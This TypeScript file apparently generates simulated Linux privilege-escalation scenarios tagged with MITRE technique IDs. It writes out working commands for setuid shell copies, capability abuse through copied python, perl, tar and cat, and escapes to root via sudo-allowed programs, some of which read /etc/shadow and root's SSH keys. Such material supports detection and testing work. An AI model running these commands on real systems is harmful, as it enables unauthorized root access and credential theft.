import type { Attack } from '../scenario.ts';
import { look, maybe, quote, root, workFolder, write } from '../ways.ts';

/** A copy of a shell keeps the rights of root. */
const suidShell: Attack = {
  name: 'setuid-shell',
  family: 'setuid-shell',
  techniques: ['T1548.001'],
  as: 'either',
  needs: ['gcc', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const path = `${folder}/${draw.chance(0.4) ? '.' : ''}${draw.word()}`;
    const made = draw.pick([
      [root(place, `cp /bin/${draw.pick(['bash', 'dash', 'sh'])} ${path}`)],
      [root(place, `install -m 4755 /bin/bash ${path}`)],
      [
        write(
          draw,
          `${path}.c`,
          '#include <unistd.h>\nint main(int n, char **v) { setuid(0); setgid(0); return execl("/bin/sh", "sh", n > 1 ? "-c" : (char *)0, v[1], (char *)0); }',
        ),
        `gcc -o ${path} ${path}.c`,
        `rm ${path}.c`,
        root(place, `chown root:root ${path}`),
      ],
    ]);
    const user = draw.pick(place.users);
    const use =
      place.user === 'root'
        ? (command: string) => `su ${user} -c ${quote(command)}`
        : (command: string) => command;
    return [
      `mkdir -p ${folder}${folder.startsWith('/root') ? '' : `; chmod 755 ${folder}`}`,
      ...made,
      root(place, `chmod ${draw.pick(['4755', 'u+s', '6755', '4777'])} ${path}`),
      ...maybe(draw, 0.6, `ls -l ${path}`),
      use(
        `${path} -p -c "${draw.pick(['id', 'whoami; head -1 /etc/shadow', 'cat /etc/shadow | wc -l', 'ls -la /root'])}"`,
      ),
      ...maybe(draw, 0.4, use(`echo "id; ls /root" | ${path} -p`)),
      ...maybe(draw, 0.4, root(place, `rm -f ${path}`)),
    ];
  },
};

/** A program gets a capability of root, and uses it. */
const capability: Attack = {
  name: 'capability-given',
  family: 'capability-given',
  techniques: ['T1548.001', 'T1548'],
  as: 'either',
  needs: ['setcap', 'getcap', 'python3', 'perl', 'sudo'],
  lines: (draw, place) => {
    const path = `${draw.pick(['/usr/local/bin', '/var/tmp', '/tmp', '/opt'])}/${draw.word()}`;
    const user = draw.pick(place.users);
    const run = (command: string): string =>
      place.user === 'root' ? `su ${user} -c ${quote(command)}` : command;
    const [program, cap, use] = draw.pick([
      [
        '/usr/bin/python3',
        'cap_setuid+ep',
        `${path} -c 'import os; os.setuid(0); os.system("${draw.pick(['id', 'head -2 /etc/shadow', 'ls -la /root'])}")'`,
      ],
      [
        '/usr/bin/perl',
        'cap_setuid+ep',
        `${path} -e 'use POSIX; POSIX::setuid(0); exec "${draw.pick(['id', '/bin/ls /root'])}"'`,
      ],
      ['/usr/bin/tar', 'cap_dac_read_search+ep', `${path} cf - /etc/shadow | tr -d '\\0' | head -c 400`],
      ['/usr/bin/cat', 'cap_dac_override+eip', `${path} /etc/shadow | head -3`],
    ] as const);
    return [
      ...maybe(draw, 0.5, 'getcap -r /usr/bin 2>/dev/null'),
      root(place, `cp $(readlink -f ${program}) ${path}`),
      root(place, `setcap ${cap} ${path}`),
      draw.pick([`getcap ${path}`, `ls -l ${path}`]),
      run(use),
      ...maybe(draw, 0.3, run(use)),
      ...maybe(draw, 0.4, root(place, `rm -f ${path}`)),
    ];
  },
};

/** Programs allowed by sudo open a shell of root. */
const shellByRule: Attack = {
  name: 'sudo-to-shell',
  family: 'sudo-to-shell',
  techniques: ['T1548.003', 'T1059.004'],
  as: 'user',
  needs: ['sudo', 'vim', 'python3', 'perl', 'git'],
  lines: (draw) => {
    const then = draw.pick([
      'id',
      'id; cat /etc/shadow | head -3',
      'whoami; ls -la /root',
      'cat /root/.bash_history | tail -5; id',
      'id; cat /root/.ssh/id_* 2>/dev/null | head -3',
    ]);
    const file = `/tmp/${draw.word()}`;
    const ways = [
      `echo "${then}" | sudo -n awk 'BEGIN {system("/bin/sh")}'`,
      `sudo -n find /etc/hosts -exec /bin/sh -c "${then}" \\;`,
      `sudo -n vim -es -c ':!${then.split(';')[0]}' -c ':q!' /etc/hosts < /dev/null`,
      `echo "${then}" | sudo -n python3 -c 'import os; os.execl("/bin/sh", "sh")'`,
      `sudo -n perl -e 'exec "/bin/sh", "-c", "${then.replaceAll('$', '')}";'`,
      `sudo -n tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec="sh -c '${then}'"`,
      `echo "${then}" | sudo -n env /bin/sh`,
      `sudo -n git -c alias.s='!${then.split(';')[0]}' s`,
      `sudo -n sed -n '1e ${then.split(';')[0]}' /etc/hosts`,
      `echo "${then}" > ${file}; sudo -n xargs -a /dev/null sh ${file}`,
      `echo "${then}" | sudo -n nice /bin/bash`,
      `echo "${then}" | sudo -n timeout 20 sh`,
    ];
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(draw, 0.8, 'sudo -n -l'),
      ...draw.some(ways, draw.int(1, 4)),
      ...maybe(draw, 0.5, 'id', 'ls -la'),
      ...maybe(draw, 0.3, 'sudo -k'),
    ];
  },
};

export const ROOT_RIGHTS: readonly Attack[] = [suidShell, capability, shellByRule];
